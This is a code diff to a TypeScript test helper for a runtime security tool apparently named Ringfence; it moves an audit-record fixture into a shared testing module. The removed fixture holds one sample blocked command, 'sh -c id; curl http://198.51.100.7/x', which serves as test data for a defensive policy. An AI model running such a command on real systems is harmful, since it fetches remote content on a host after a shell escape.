@@ -1,5 +1,5 @@
-import { randomBytes } from 'node:crypto';
 import { request } from 'node:https';
+import { makeAudit } from '@ringfence/console/testing/make-audit';
 import { decodeDefenderConfiguration, type FunctionIdentity } from '@ringfence/policy';
 import type { TestConsole } from './start-test-console.ts';
 
@@ -29,40 +29,14 @@ export async function registerDefender(
   const { configuration } = (await answer.json()) as { configuration: string };
   const { token = '' } = decodeDefenderConfiguration(Buffer.from(configuration, 'base64url'));
   return (audits: object[]) => {
-    const lines = audits.map((audit) => JSON.stringify({ ...makeAudit(identity), ...audit }));
+    const whose = { function: { ...identity, version: '$LATEST' } };
+    const lines = audits.map((audit) => JSON.stringify({ ...makeAudit(whose), ...audit }));
     return post(
       `${console.defenderUrl}/api/defender/audits`,
       console.authority,
       token,
       `${lines.join('\n')}\n`,
     );
-  };
-}
-
-/** A process audit in full; each test replaces what matters to it. */
-export function makeAudit(identity: FunctionIdentity) {
-  return {
-    ringfence: 1,
-    id: randomBytes(16).toString('hex'),
-    time: new Date().toISOString(),
-    type: 'process',
-    effect: 'prevent',
-    action: 'blocked',
-    function: { ...identity, version: '$LATEST' },
-    instance: '00112233445566ff',
-    request: '8f5a3c1e-0000-4000-8000-000000000001',
-    count: 1,
-    message: 'python3.12 tried to start /bin/sh, which the policy does not allow',
-    detail: {
-      path: '/usr/bin/dash',
-      requested: '/bin/sh',
-      argv: ['sh', '-c', 'id; curl http://198.51.100.7/x'],
-      pid: 17,
-      caller: '/usr/bin/python3.12',
-      call: 'execve',
-      abi: 'x86_64',
-      reason: 'not in the allowlist',
-    },
   };
 }
 
